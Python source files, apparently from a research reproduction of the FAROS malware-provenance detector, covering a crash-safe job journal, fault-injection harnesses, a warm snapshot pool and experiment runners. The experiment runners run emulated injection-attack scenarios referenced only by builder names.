    def append_done(self, result: TriageResult) -> None:
        """Durably checkpoint *result*.  MUST precede emitting the row."""
        self._append({
            "rec": REC_DONE,
            "job_id": result.job_id,
            "result": result.to_json_dict(),
        })

    def close(self) -> None:
        self._fh.close()

    def __enter__(self) -> "JobJournal":
        return self

    def __exit__(self, *exc) -> None:
        self.close()

    # -- reading -----------------------------------------------------------------

    @classmethod
    def replay(cls, path: str) -> JournalState:
        """Scan *path* into a :class:`JournalState`.

        Unparseable lines are tolerated only at the tail (the torn
        write of the crash itself); garbage followed by valid records
        raises :class:`JournalCorrupt` -- that file did not fail the way
        this journal can fail, and silently skipping records would
        break exactly-once.
        """
        state = JournalState()
        if not os.path.exists(path):
            return state
        torn_at: Optional[int] = None
        with open(path, "r", encoding="utf-8") as fh:
            for lineno, line in enumerate(fh):
                if not line.strip():
                    continue
                try:
                    record = json.loads(line)
                except json.JSONDecodeError:
                    if torn_at is not None:
                        raise JournalCorrupt(
                            f"{path}: unparseable lines at {torn_at} and {lineno}"
                        )
                    torn_at = lineno
                    state.torn_lines += 1
                    continue
                if torn_at is not None:
                    raise JournalCorrupt(
                        f"{path}: valid record at line {lineno} after torn line {torn_at}"
                    )
                kind = record.get("rec")
                if kind == REC_HEADER:
                    continue
                if kind == REC_ACCEPT:
                    entry = AcceptedJob(
                        job=job_from_json_dict(record["job"]),
                        priority=record.get("priority", "normal"),
                        tenant=record.get("tenant", "default"),
                        seq=record.get("seq", 0),
                    )
                    # Duplicate accepts (a resumed service re-journaling
                    # its backlog) keep the first entry: acceptance
                    # order is the original order.
                    state.accepted.setdefault(entry.job.job_id, entry)
                elif kind == REC_DONE:
                    # Duplicate dones keep the first result: the row the
                    # first completion emitted is the row of record.
                    state.done.setdefault(record["job_id"], record["result"])
                else:
                    raise JournalCorrupt(f"{path}: unknown record type {kind!r}")
        return state
