"""Chaos harnesses for the service layer, plus smoke-test job bodies.

The chaos matrix (:mod:`repro.analysis.chaos`) injects *guest*-level
faults through :class:`~repro.faults.plan.FaultPlan`.  The two columns
here attack the *host* layer instead -- the supervised worker and the
snapshot integrity check -- and each must come out
DEGRADED-but-detected: the final row carries both the injected fault's
record and the verdict from the run that completed anyway.

Both harnesses run nested inside ordinary triage workers (the chaos
matrix shards over a pool), which is exactly why
:class:`~repro.serve.supervisor.SupervisedWorker` is built on
``os.fork``: daemonic :mod:`multiprocessing` workers may not spawn
multiprocessing children, but they may fork.
"""

from __future__ import annotations

import os
import signal
import time
from typing import Optional

from repro.analysis.triage import JobOutcome, TriageJob, TriageResult
from repro.emulator.snapshot import MachineSnapshot
from repro.faults.errors import FaultRecord
from repro.serve.pool import SnapshotPool, attack_snapshot_key, warm_attack_outcome
from repro.serve.supervisor import SupervisedWorker

#: How long the harness will wait for the inner worker (seconds).  Far
#: above any attack's real runtime; a trip means the host is broken.
_HARNESS_DEADLINE = 120.0


def _await_result(worker: SupervisedWorker,
                  deadline: float = _HARNESS_DEADLINE) -> Optional[TriageResult]:
    """The worker's next result, or None if it died / ran out the clock."""
    end = time.monotonic() + deadline
    while time.monotonic() < end:
        if worker.conn.poll(0.05):
            try:
                return worker.conn.recv()
            except (EOFError, OSError):
                return None
        if not worker.alive():
            return None
    return None


def _outcome_from_result(result: TriageResult, fault: FaultRecord,
                         extra: dict) -> JobOutcome:
    """Fold a completed rerun's row and the injected fault into one
    outcome.  ``fault`` set forces the triage row DEGRADED; the verdict
    is the completed run's -- DEGRADED-but-detected."""
    merged = dict(result.extra)
    merged.update(extra)
    return JobOutcome(
        verdict=result.verdict,
        exit_code=result.exit_code,
        report=result.report,
        instructions=result.instructions,
        tainted_bytes=result.tainted_bytes,
        extra=merged,
        metrics=result.metrics,
        fault=fault.to_json_dict(),
    )


def worker_crash_outcome(attack: str,
                         taint_pipeline: Optional[str] = None) -> JobOutcome:
    """Kill a supervised worker mid-sample, then prove nothing was lost.

    The inner worker runs the attack; once its progress sink shows the
    guest actually executing (tick > 0 -- attacks retire hundreds of
    thousands of instructions, so the window is wide) it takes a
    SIGKILL.  The supervisor's contract then plays out in miniature:
    the death classifies as retryable ``WorkerCrash``, a fresh worker
    reruns the job, and the final row carries the crash record plus
    the rerun's verdict.
    """
    params = {"attack": attack}
    if taint_pipeline is not None:
        params["taint_pipeline"] = taint_pipeline
    job = TriageJob(job_id=0, name=attack, kind="attack", params=params)

    worker = SupervisedWorker()
    worker.submit(job, attempt=1)
    killed_progress: Optional[dict] = None
    end = time.monotonic() + _HARNESS_DEADLINE
    while time.monotonic() < end:
        progress = worker.last_progress()
        if progress is not None and progress.get("tick", -1) > 0:
            killed_progress = progress
            break
        if worker.conn.poll(0):
            # The sample finished before the guest published -- drain it
            # and kill anyway; the rerun below still proves recovery.
            break
        time.sleep(0.001)
    os.kill(worker.pid, signal.SIGKILL)
    worker.kill()
    fault = FaultRecord(
        kind="WorkerCrash",
        detail=f"injected SIGKILL of worker pid {worker.pid} mid-sample",
        tick=(killed_progress or {}).get("tick"),
        pc=(killed_progress or {}).get("pc"),
        syscall=(killed_progress or {}).get("syscall"),
        injected=True,
    )

    retry = SupervisedWorker()
    try:
        retry.submit(job, attempt=2)
        result = _await_result(retry)
    finally:
        retry.close()
    if result is None:
        # The *retry* died too -- that is a real violation, surface it.
        return JobOutcome(
            verdict=False,
            extra={"attack": attack, "harness": "worker-crash"},
            fault=FaultRecord(
                kind="WorkerCrash",
                detail="retry worker also died; job lost",
                injected=True,
            ).to_json_dict(),
        )
    return _outcome_from_result(
        result, fault,
        extra={"harness": "worker-crash", "killed_tick": fault.tick},
    )


def snapshot_corrupt_outcome(attack: str,
                             taint_pipeline: Optional[str] = None) -> JobOutcome:
    """Flip a byte of frozen snapshot state; the digest check must fire.

    A private pool captures the attack's snapshot, one byte of the
    frozen kernel-state blob is flipped, and the warm path is asked to
    serve it.  The integrity check refuses the fork, the pool degrades
    to a cold boot with a ``DegradedPool`` record, and the cold run
    still detects the attack -- corruption costs warmth, not verdicts.
    """
    pool = SnapshotPool(prefork=0)
    key = attack_snapshot_key(attack)
    from repro.analysis.triage import ATTACK_BUILDER_REGISTRY

    snapshot = MachineSnapshot.capture(
        ATTACK_BUILDER_REGISTRY[attack]().scenario, name=key
    )
    blob = bytearray(snapshot.state_blob)
    blob[len(blob) // 2] ^= 0xFF
    snapshot.state_blob = bytes(blob)
    pool.put(key, snapshot)

    outcome = warm_attack_outcome(attack, taint_pipeline=taint_pipeline,
                                  pool=pool)
    outcome.extra["harness"] = "snapshot-corrupt"
    if outcome.fault is None:
        # The corrupted snapshot served a fork: the digest check failed
        # to fire.  Report the violation loudly.
        outcome.verdict = False
        outcome.fault = FaultRecord(
            kind="SnapshotIntegrityError",
            detail="corrupted snapshot was NOT detected by the digest check",
            injected=True,
        ).to_json_dict()
    return outcome


HARNESSES = {
    "worker-crash": worker_crash_outcome,
    "snapshot-corrupt": snapshot_corrupt_outcome,
}


def run_harness(name: str, attack: str,
                taint_pipeline: Optional[str] = None) -> JobOutcome:
    return HARNESSES[name](attack, taint_pipeline=taint_pipeline)


# ----------------------------------------------------------------------
# smoke-test job bodies (self-contained: no tests/ import in CI)
# ----------------------------------------------------------------------

def smoke_touch_job(log_path: str, token: str) -> JobOutcome:
    """Append *token* to *log_path* -- one line per execution, so the
    smoke test can count executions per job."""
    with open(log_path, "a", encoding="utf-8") as fh:
        fh.write(token + "\n")
        fh.flush()
        os.fsync(fh.fileno())
    return JobOutcome(verdict=True, extra={"token": token})


def smoke_crash_once_job(marker_path: str, log_path: Optional[str] = None,
                         token: str = "crash-once") -> JobOutcome:
    """SIGKILL the worker on the first attempt, succeed on the second.

    The marker file is the cross-process attempt counter: absent means
    no attempt has run yet, so die *before* logging -- the retry is the
    only execution that counts.
    """
    if not os.path.exists(marker_path):
        with open(marker_path, "w", encoding="utf-8") as fh:
            fh.write(str(os.getpid()))
            fh.flush()
            os.fsync(fh.fileno())
        os.kill(os.getpid(), signal.SIGKILL)
    if log_path is not None:
        return smoke_touch_job(log_path, token)
    return JobOutcome(verdict=True, extra={"token": token})


def smoke_sleep_job(seconds: float) -> JobOutcome:
    """Burn wall clock -- backlog filler for the kill/restart phase."""
    time.sleep(seconds)
    return JobOutcome(verdict=True)
