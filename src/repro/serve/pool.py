"""The warm snapshot pool: pre-booted guests behind health checks.

One :class:`SnapshotPool` per worker process.  The first job for a
given attack captures its post-boot :class:`~repro.emulator.snapshot.
MachineSnapshot`; every later job forks a runnable guest from it at
sample-execution cost, skipping the scenario builder and kernel boot
entirely.  Between jobs the pool keeps up to *prefork* plugin-free
materialized guests per snapshot, so leasing usually costs only the
plugin arm + boot-event replay.

**The degradation contract.**  The pool never fails a job.  Any trouble
serving warm -- a snapshot failing its integrity digest, a capture
error, a health-check reject streak, the fork cap -- returns
``(None, FaultRecord(kind="DegradedPool"))`` from :meth:`lease`, and
the caller runs the job from a cold boot, attaching the record so the
row reports DEGRADED-but-detected rather than pretending nothing
happened.  ``DegradedPool`` is classified *degraded* (deterministic):
the cold-boot result is complete, so there is nothing to retry.
"""

from __future__ import annotations

from typing import Dict, List, Optional, Sequence, Tuple

from repro.emulator.machine import Machine
from repro.emulator.snapshot import (
    MachineSnapshot,
    SnapshotError,
    snapshot_record,
    snapshot_replay,
)
from repro.faults.errors import FaultRecord
from repro.obs.metrics import NULL_REGISTRY


def _degraded(detail: str) -> FaultRecord:
    return FaultRecord(kind="DegradedPool", detail=detail)


class SnapshotPool:
    """Warm guests keyed by snapshot identity, with graceful degradation.

    :param prefork: materialized (plugin-free) guests to keep warm per
        snapshot; leasing takes one and back-fills lazily.
    :param max_health_rejects: consecutive health-check rejects for one
        snapshot before the pool stops trusting it and degrades.
    """

    def __init__(self, prefork: int = 2, max_health_rejects: int = 3,
                 metrics=None) -> None:
        self.prefork = max(0, prefork)
        self.max_health_rejects = max_health_rejects
        self._snapshots: Dict[str, MachineSnapshot] = {}
        self._warm: Dict[str, List[Machine]] = {}
        self._rejects: Dict[str, int] = {}
        self._quarantined: Dict[str, str] = {}
        registry = metrics if metrics is not None else NULL_REGISTRY
        self._ctr_captures = registry.counter("pool.captures")
        self._ctr_leases = registry.counter("pool.leases.warm")
        self._ctr_degraded = registry.counter("pool.leases.degraded")
        self._ctr_rejects = registry.counter("pool.health_rejects")

    # -- snapshot registry -------------------------------------------------------

    def put(self, key: str, snapshot: MachineSnapshot) -> None:
        """Install a ready-made snapshot under *key* (tests, warm-up)."""
        self._snapshots[key] = snapshot
        self._warm.setdefault(key, [])
        self._rejects[key] = 0
        self._quarantined.pop(key, None)

    def get(self, key: str) -> Optional[MachineSnapshot]:
        return self._snapshots.get(key)

    def ensure(self, key: str, capture) -> MachineSnapshot:
        """The snapshot under *key*, capturing via *capture()* on first
        use.  Raises whatever *capture* raises -- :meth:`lease` wraps."""
        snap = self._snapshots.get(key)
        if snap is None:
            snap = capture()
            self._ctr_captures.inc()
            self.put(key, snap)
        return snap

    # -- warm stock --------------------------------------------------------------

    def _take_warm(self, key: str, snapshot: MachineSnapshot) -> Optional[Machine]:
        """A healthy pre-materialized guest, discarding unhealthy ones."""
        stock = self._warm.setdefault(key, [])
        while stock:
            machine = stock.pop()
            if snapshot.healthy(machine):
                self._rejects[key] = 0
                return machine
            self._ctr_rejects.inc()
            self._rejects[key] = self._rejects.get(key, 0) + 1
            if self._rejects[key] >= self.max_health_rejects:
                raise SnapshotError(
                    f"{self._rejects[key]} consecutive unhealthy guests "
                    f"for snapshot {key!r}"
                )
        return None

    def refill(self, key: str) -> int:
        """Top the warm stock for *key* back up to *prefork*; returns
        how many guests were materialized.  Cheap enough to call
        between jobs; digest-verifies once per refill."""
        snap = self._snapshots.get(key)
        if snap is None or key in self._quarantined:
            return 0
        stock = self._warm.setdefault(key, [])
        made = 0
        if len(stock) < self.prefork:
            snap.verify()
            while len(stock) < self.prefork:
                stock.append(snap.materialize(verify=False))
                made += 1
        return made

    # -- leasing -----------------------------------------------------------------

    def lease(self, key: str, capture=None, plugins: Sequence = (),
              metrics=None) -> Tuple[Optional[Machine], Optional[FaultRecord]]:
        """A runnable, armed guest for *key* -- or a degradation record.

        Returns ``(machine, None)`` on the warm path and ``(None,
        fault)`` when the pool cannot serve; never raises for
        snapshot-attributable trouble.  *capture* is the zero-argument
        snapshot factory used on first lease of *key*.
        """
        quarantine = self._quarantined.get(key)
        if quarantine is not None:
            self._ctr_degraded.inc()
            return None, _degraded(quarantine)
        try:
            if capture is not None:
                snapshot = self.ensure(key, capture)
            else:
                snapshot = self._snapshots[key]
        except KeyError:
            self._ctr_degraded.inc()
            return None, _degraded(f"no snapshot under key {key!r}")
        except Exception as exc:
            detail = f"snapshot capture failed for {key!r}: {exc}"
            self._quarantined[key] = detail
            self._ctr_degraded.inc()
            return None, _degraded(detail)
        try:
            machine = self._take_warm(key, snapshot)
            if machine is None:
                machine = snapshot.materialize(metrics=metrics)
            elif metrics is not None:
                machine.use_metrics(metrics)
            snapshot.arm(machine, plugins)
        except Exception as exc:
            # Digest mismatch, thaw failure, health-reject streak --
            # every fork from this snapshot would fail the same way.
            detail = f"{type(exc).__name__}: {exc}"
            self._quarantined[key] = detail
            self._warm[key] = []
            self._ctr_degraded.inc()
            return None, _degraded(detail)
        self._ctr_leases.inc()
        return machine, None

    def stats(self) -> dict:
        return {
            "snapshots": len(self._snapshots),
            "warm": {k: len(v) for k, v in self._warm.items()},
            "quarantined": dict(self._quarantined),
        }


# ----------------------------------------------------------------------
# the warm attack path (what execution="warm" triage jobs run)
# ----------------------------------------------------------------------

#: The per-process pool ``warm_attack_outcome`` uses.  Worker processes
#: are long-lived (the supervisor restarts, not recycles, them), so the
#: amortization window is the worker's whole lifetime.
_PROCESS_POOL: Optional[SnapshotPool] = None


def process_pool() -> SnapshotPool:
    global _PROCESS_POOL
    if _PROCESS_POOL is None:
        _PROCESS_POOL = SnapshotPool()
    return _PROCESS_POOL


def reset_process_pool() -> None:
    """Drop the per-process pool (tests)."""
    global _PROCESS_POOL
    _PROCESS_POOL = None


def attack_snapshot_key(attack: str, transient: bool = False) -> str:
    return f"attack:{attack}:transient={bool(transient)}"


def warm_attack_outcome(attack: str, transient: bool = False,
                        session=None, taint_pipeline: Optional[str] = None,
                        pool: Optional[SnapshotPool] = None):
    """Record/replay *attack* through the warm pool; degrade to cold.

    The warm path is bit-identical to the cold one (the snapshot
    differential harness holds it there), so the only observable
    difference on the happy path is dispatch latency.  On any pool
    trouble the job runs cold and the outcome carries the
    ``DegradedPool`` record -- DEGRADED-but-detected, never a lost job.
    """
    # Imported here, not at module top: triage imports stay acyclic
    # (triage -> serve.pool only inside execution="warm" calls).
    from repro.analysis.triage import (
        ATTACK_BUILDER_REGISTRY,
        _faros_outcome,
        record,
        replay,
    )
    from repro.faros import Faros
    from repro.obs.session import ObsSession

    if session is None:
        session = ObsSession.create(enabled=False)
    if pool is None:
        pool = process_pool()
    key = attack_snapshot_key(attack, transient)
    builder = ATTACK_BUILDER_REGISTRY[attack]

    def capture() -> MachineSnapshot:
        attack_obj = builder(transient=True) if transient else builder()
        return MachineSnapshot.capture(attack_obj.scenario, name=key)

    with session.span("boot"):
        machine, fault = pool.lease(key, capture=capture)
    if fault is not None:
        # Cold fallback: the full original path, plus the pool's record.
        with session.span("boot"):
            attack_obj = builder(transient=True) if transient else builder()
        with session.span("attack"):
            recording = record(attack_obj.scenario)
        faros = Faros(metrics=session.registry, taint_pipeline=taint_pipeline)
        with session.span("detection"):
            replay(recording, plugins=session.plugins_for(faros),
                   metrics=session.registry)
        outcome = _faros_outcome(faros, session=session)
        if outcome.fault is None:
            outcome.fault = fault.to_json_dict()
        outcome.extra["degraded_pool"] = fault.detail
        return outcome
    snapshot = pool.get(key)
    with session.span("attack"):
        recording = snapshot_record(snapshot, machine=machine)
    faros = Faros(metrics=session.registry, taint_pipeline=taint_pipeline)
    with session.span("detection"):
        snapshot_replay(snapshot, recording,
                        plugins=session.plugins_for(faros),
                        metrics=session.registry)
    pool.refill(key)
    return _faros_outcome(faros, session=session)
