"""Triage as a service: warm snapshot pool, supervised workers, and a
journaled job queue behind ``repro serve``.

The layering, bottom-up:

* :mod:`repro.serve.journal` -- the crash-safe NDJSON job journal
  (accept before execute, checkpoint on completion, exactly-once
  resume).
* :mod:`repro.serve.supervisor` -- ``os.fork``-based workers with
  heartbeats, per-job watchdogs, and a restarting supervisor that
  classifies deaths through the :mod:`repro.faults` taxonomy.
* :mod:`repro.serve.pool` -- the warm :class:`SnapshotPool` of
  pre-forked guests, degrading to cold boots under a ``DegradedPool``
  fault record.
* :mod:`repro.serve.service` -- the async socket service: priority
  lanes, per-tenant quotas, backpressure, streaming NDJSON results,
  health/metrics.

See ``docs/triage_service.md`` for the full architecture.
"""

from repro.serve.journal import JobJournal, JournalState
from repro.serve.pool import SnapshotPool, warm_attack_outcome
from repro.serve.service import ServeClient, ServeConfig, TriageService, run_smoke
from repro.serve.supervisor import SupervisedWorker, WorkerPool

__all__ = [
    "JobJournal",
    "JournalState",
    "SnapshotPool",
    "warm_attack_outcome",
    "ServeClient",
    "ServeConfig",
    "TriageService",
    "run_smoke",
    "SupervisedWorker",
    "WorkerPool",
]
