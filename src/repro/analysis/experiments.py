"""Experiment runners for the paper's evaluation section (§VI)."""

from __future__ import annotations

import time
from dataclasses import dataclass
from typing import Callable, List, Optional, Tuple

from repro.attacks import (
    build_bypassuac_injection_scenario,
    build_code_injection_scenario,
    build_process_hollowing_scenario,
    build_reflective_dll_scenario,
    build_reverse_tcp_dns_scenario,
)
from repro.attacks.metasploit import AttackScenario
from repro.baselines import CuckooSandbox
from repro.emulator.record_replay import record, replay
from repro.faros import Faros, FarosReport
from repro.workloads.behaviors import build_sample_scenario
from repro.workloads.corpus import SampleSpec, corpus_samples
from repro.workloads.jit import jit_samples

# ----------------------------------------------------------------------
# E1-E6: the six in-memory injection attacks (Figs. 7-10, Table II)
# ----------------------------------------------------------------------

#: The paper's six advanced in-memory-injecting malware samples.
ATTACK_BUILDERS: Tuple[Tuple[str, Callable[[], AttackScenario]], ...] = (
    ("reflective_dll_inject", build_reflective_dll_scenario),
    ("reverse_tcp_dns", build_reverse_tcp_dns_scenario),
    ("bypassuac_injection", build_bypassuac_injection_scenario),
    ("process_hollowing", build_process_hollowing_scenario),
    ("darkcomet_injection", lambda: build_code_injection_scenario(rat="darkcomet")),
    ("njrat_injection", lambda: build_code_injection_scenario(rat="njrat")),
)


@dataclass
class AttackAnalysis:
    """FAROS' verdict on one attack."""

    name: str
    attack: AttackScenario
    report: FarosReport
    detected: bool

    @property
    def chain(self):
        """The first provenance chain (the Figs. 7-10 diagram content)."""
        chains = self.report.chains()
        return chains[0] if chains else None


def run_attack_analysis(name: str, attack: AttackScenario) -> AttackAnalysis:
    """Record/replay one attack with FAROS attached (the §V-C workflow)."""
    recording = record(attack.scenario)
    faros = Faros()
    replay(recording, plugins=[faros])
    return AttackAnalysis(
        name=name, attack=attack, report=faros.report(), detected=faros.attack_detected
    )


def detection_suite() -> List[AttackAnalysis]:
    """E1-E6: all six attacks.  Expected: 6/6 detected."""
    return [run_attack_analysis(name, build()) for name, build in ATTACK_BUILDERS]


def table2_output() -> str:
    """E5: the Table II-style FAROS output for a reflective DLL injection."""
    analysis = run_attack_analysis(
        "reflective_dll_inject", build_reflective_dll_scenario()
    )
    return analysis.report.render()


# ----------------------------------------------------------------------
# E7: Table III (JIT false positives)
# ----------------------------------------------------------------------

@dataclass
class JitResult:
    name: str
    kind: str
    flagged: bool
    expected_flag: bool


def jit_fp_experiment() -> List[JitResult]:
    """E7: run all 20 Table III workloads under FAROS.

    Expected shape: exactly the two native-binding applets flagged
    (10% of the applet set; 2/20 of the JIT set), zero AJAX flags.
    """
    results = []
    for sample in jit_samples():
        faros = Faros()
        sample.scenario.run(plugins=[faros])
        results.append(
            JitResult(
                name=sample.name,
                kind=sample.kind,
                flagged=faros.attack_detected,
                expected_flag=sample.uses_native_binding,
            )
        )
    return results


# ----------------------------------------------------------------------
# E8: Table IV (corpus false positives)
# ----------------------------------------------------------------------

@dataclass
class CorpusResult:
    sample: SampleSpec
    flagged: bool
    exit_code: Optional[int]


def corpus_fp_experiment(limit: Optional[int] = None) -> List[CorpusResult]:
    """E8: the 90-malware + 14-benign corpus.  Expected: zero flags.

    With *limit*, a family-balanced subset runs instead of the full
    roster: the first variant of every family (malware and benign)
    first, then further variants -- so quick runs still cover every
    behaviour composition.  The bench runs all 104.
    """
    samples = corpus_samples()
    if limit is not None:
        seen_families = set()
        firsts, rest = [], []
        for spec in samples:
            if spec.family in seen_families:
                rest.append(spec)
            else:
                seen_families.add(spec.family)
                firsts.append(spec)
        samples = (firsts + rest)[:limit]
    results = []
    for spec in samples:
        faros = Faros()
        machine = spec.scenario().run(plugins=[faros])
        proc = next(iter(machine.kernel.processes.values()))
        results.append(
            CorpusResult(sample=spec, flagged=faros.attack_detected, exit_code=proc.exit_code)
        )
    return results


def fp_rate(flag_count: int, total: int) -> float:
    """False-positive rate as a percentage."""
    return 100.0 * flag_count / total if total else 0.0


# ----------------------------------------------------------------------
# E9: Table V (performance overhead)
# ----------------------------------------------------------------------

#: The paper's Table V applications, mapped to our corpus behaviours.
#: Each gets extra compute rounds so replay time is dominated by
#: executed instructions rather than machine setup, with the heavier
#: RATs doing proportionally more work (matching the paper's
#: observation that complex behaviour costs more under FAROS).
OVERHEAD_APPS: Tuple[Tuple[str, Tuple[str, ...]], ...] = (
    ("Skype", ("idle", "run", "audio_record") + ("run",) * 8),
    ("Team Viewer", ("idle", "run", "remote_desktop") + ("run",) * 8),
    ("Bozok", ("idle", "run", "audio_record", "file_transfer", "keylogger", "remote_desktop") + ("run",) * 16),
    ("Spygate", ("idle", "run", "audio_record", "keylogger", "remote_desktop", "upload", "download") + ("run",) * 20),
    ("Pandora", ("idle", "run", "audio_record", "file_transfer", "keylogger", "remote_desktop", "upload") + ("run",) * 24),
    ("Remote Utility", ("idle", "run", "file_transfer", "remote_desktop", "download") + ("run",) * 12),
)


@dataclass
class OverheadRow:
    """One Table V row: replay cost without vs. with FAROS."""

    application: str
    replay_seconds: float
    faros_seconds: float
    instructions: int

    @property
    def slowdown(self) -> float:
        return self.faros_seconds / self.replay_seconds if self.replay_seconds else 0.0


def overhead_experiment(repeat: int = 3) -> List[OverheadRow]:
    """E9: wall-clock replay cost with and without the FAROS plugin.

    Machine construction happens outside the timed window -- the
    measured quantity is replay *execution*, matching how the paper
    times PANDA replays.  Absolute numbers depend on the host; the
    paper-shape claims are (a) FAROS is a multi-x slowdown on every
    workload and (b) overhead grows with behavioural complexity.
    """
    rows = []
    for app, behaviors in OVERHEAD_APPS:
        scenario = build_sample_scenario(
            app, behaviors, variant=0, max_instructions=2_000_000
        )

        def plain():
            machine = scenario.build(())
            start = time.perf_counter()
            machine.run(scenario.max_instructions)
            return time.perf_counter() - start

        insns_box = {}

        def with_faros():
            faros = Faros()
            machine = scenario.build((faros,))
            start = time.perf_counter()
            machine.run(scenario.max_instructions)
            insns_box["n"] = faros.tracker.stats.instructions
            return time.perf_counter() - start

        plain_time = min(plain() for _ in range(max(repeat, 1)))
        faros_time = min(with_faros() for _ in range(max(repeat, 1)))
        rows.append(
            OverheadRow(
                application=app,
                replay_seconds=plain_time,
                faros_seconds=faros_time,
                instructions=insns_box.get("n", 0),
            )
        )
    return rows


def _best_time(fn: Callable[[], object], repeat: int) -> float:
    best = float("inf")
    for _ in range(max(repeat, 1)):
        start = time.perf_counter()
        fn()
        best = min(best, time.perf_counter() - start)
    return best


# ----------------------------------------------------------------------
# E10: comparison with CuckooBox (§VI-B)
# ----------------------------------------------------------------------

@dataclass
class ComparisonRow:
    """One attack's outcome across the three tools."""

    attack: str
    transient: bool
    faros_detects: bool
    faros_has_netflow: bool
    faros_has_provenance: bool
    cuckoo_detects: bool
    malfind_detects: bool


def comparison_matrix(include_transient: bool = True) -> List[ComparisonRow]:
    """E10: FAROS vs Cuckoo vs Cuckoo+malfind on the attack classes."""
    cases: List[Tuple[str, bool, AttackScenario]] = [
        ("reflective_dll_inject", False, build_reflective_dll_scenario()),
        ("process_hollowing", False, build_process_hollowing_scenario()),
        ("code_injection", False, build_code_injection_scenario()),
    ]
    if include_transient:
        cases += [
            ("reflective_dll_inject", True, build_reflective_dll_scenario(transient=True)),
            ("process_hollowing", True, build_process_hollowing_scenario(transient=True)),
            ("code_injection", True, build_code_injection_scenario(transient=True)),
        ]
    rows = []
    for name, transient, attack in cases:
        faros = Faros()
        attack.scenario.run(plugins=[faros])
        report = faros.report()
        chain = report.chains()[0] if report.chains() else None

        cuckoo_report = CuckooSandbox().analyze(attack.scenario)
        malfind_detected, _hits = cuckoo_report.detect_injection_with_malfind()
        rows.append(
            ComparisonRow(
                attack=name,
                transient=transient,
                faros_detects=report.attack_detected,
                faros_has_netflow=bool(chain and chain.netflow),
                faros_has_provenance=bool(chain and chain.process_chain),
                cuckoo_detects=cuckoo_report.detect_injection(),
                malfind_detects=malfind_detected,
            )
        )
    return rows
