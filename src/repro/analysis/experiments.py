"""Experiment runners for the paper's evaluation section (§VI).

The batch experiments (detection suite, Tables III/IV, the §VI-B
comparison) are built on the :mod:`repro.analysis.triage` engine: each
runner turns its roster into picklable job descriptors, hands them to
:func:`~repro.analysis.triage.run_triage`, and rebuilds its row type
from the serializable results.  ``jobs=1`` (the default) runs the batch
in-process; ``jobs=N`` shards it over N worker processes with identical
output.
"""

from __future__ import annotations

import time
from dataclasses import dataclass
from typing import Callable, List, Optional, Tuple

from repro.analysis.triage import (
    ATTACK_BUILDER_REGISTRY,
    TriageResult,
    attack_jobs,
    comparison_jobs,
    corpus_jobs,
    jit_jobs,
    run_triage,
)
from repro.attacks.metasploit import AttackScenario
from repro.emulator.record_replay import record, replay
from repro.faros import Faros, FarosReport
from repro.obs.session import ObsSession
from repro.faros.report import ProvenanceChain
from repro.workloads.behaviors import build_sample_scenario
from repro.workloads.corpus import SampleSpec, corpus_samples
from repro.workloads.jit import JIT_WORKLOADS, uses_native_binding

# ----------------------------------------------------------------------
# E1-E6: the six in-memory injection attacks (Figs. 7-10, Table II)
# ----------------------------------------------------------------------

#: The paper's six advanced in-memory-injecting malware samples.
ATTACK_BUILDERS: Tuple[Tuple[str, Callable[[], AttackScenario]], ...] = tuple(
    (name, ATTACK_BUILDER_REGISTRY[name])
    for name in (
        "reflective_dll_inject",
        "reverse_tcp_dns",
        "bypassuac_injection",
        "process_hollowing",
        "darkcomet_injection",
        "njrat_injection",
    )
)


@dataclass
class AttackAnalysis:
    """FAROS' verdict on one attack."""

    name: str
    attack: AttackScenario
    report: FarosReport
    detected: bool

    @property
    def chain(self):
        """The first provenance chain (the Figs. 7-10 diagram content)."""
        chains = self.report.chains()
        return chains[0] if chains else None


def run_attack_analysis(
    name: str, attack: AttackScenario, metrics: bool = False
) -> AttackAnalysis:
    """Record/replay one attack with FAROS attached (the §V-C workflow)."""
    session = ObsSession.create(enabled=metrics)
    with session.span("attack"):
        recording = record(attack.scenario)
    faros = Faros(metrics=session.registry)
    with session.span("detection"):
        replay(recording, plugins=session.plugins_for(faros),
               metrics=session.registry)
    with session.span("report"):
        report = faros.report()
    if session.enabled:
        report.metrics = session.snapshot()
    return AttackAnalysis(
        name=name, attack=attack, report=report, detected=faros.attack_detected
    )


@dataclass
class AttackVerdict:
    """FAROS' verdict on one attack, as triaged through the engine.

    The render-facing twin of :class:`AttackAnalysis`: same ``name`` /
    ``detected`` / ``chain`` surface, but built from a serializable
    :class:`~repro.analysis.triage.TriageResult` so the suite can run
    in worker processes.
    """

    name: str
    detected: bool
    chains: List[ProvenanceChain]
    result: TriageResult
    error: Optional[str] = None

    @property
    def chain(self) -> Optional[ProvenanceChain]:
        return self.chains[0] if self.chains else None


def detection_suite(
    jobs: int = 1, timeout: Optional[float] = None, metrics: bool = False,
    taint_pipeline: Optional[str] = None,
) -> List[AttackVerdict]:
    """E1-E6: all six attacks.  Expected: 6/6 detected."""
    job_list = attack_jobs([name for name, _ in ATTACK_BUILDERS], metrics=metrics,
                           taint_pipeline=taint_pipeline)
    return [
        AttackVerdict(
            name=r.name,
            detected=r.verdict,
            chains=r.chains(),
            result=r,
            error=r.error,
        )
        for r in run_triage(job_list, jobs=jobs, timeout=timeout)
    ]


def table2_analysis(metrics: bool = False) -> AttackAnalysis:
    """E5: the Table II reflective-DLL analysis, with its full report."""
    return run_attack_analysis(
        "reflective_dll_inject",
        ATTACK_BUILDER_REGISTRY["reflective_dll_inject"](),
        metrics=metrics,
    )


def table2_output() -> str:
    """E5: the Table II-style FAROS output for a reflective DLL injection."""
    return table2_analysis().report.render()


# ----------------------------------------------------------------------
# E7: Table III (JIT false positives)
# ----------------------------------------------------------------------

@dataclass
class JitResult:
    name: str
    kind: str
    flagged: bool
    expected_flag: bool
    error: Optional[str] = None
    result: Optional[TriageResult] = None


def jit_fp_experiment(
    jobs: int = 1, timeout: Optional[float] = None, metrics: bool = False,
    taint_pipeline: Optional[str] = None,
) -> List[JitResult]:
    """E7: run all 20 Table III workloads under FAROS.

    Expected shape: exactly the two native-binding applets flagged
    (10% of the applet set; 2/20 of the JIT set), zero AJAX flags.
    """
    results = run_triage(
        jit_jobs(JIT_WORKLOADS, metrics=metrics, taint_pipeline=taint_pipeline),
        jobs=jobs, timeout=timeout,
    )
    return [
        JitResult(
            name=name,
            kind=kind,
            flagged=r.verdict,
            expected_flag=uses_native_binding(name, kind),
            error=r.error,
            result=r,
        )
        for (name, kind), r in zip(JIT_WORKLOADS, results)
    ]


# ----------------------------------------------------------------------
# E8: Table IV (corpus false positives)
# ----------------------------------------------------------------------

@dataclass
class CorpusResult:
    sample: SampleSpec
    flagged: bool
    exit_code: Optional[int]
    error: Optional[str] = None
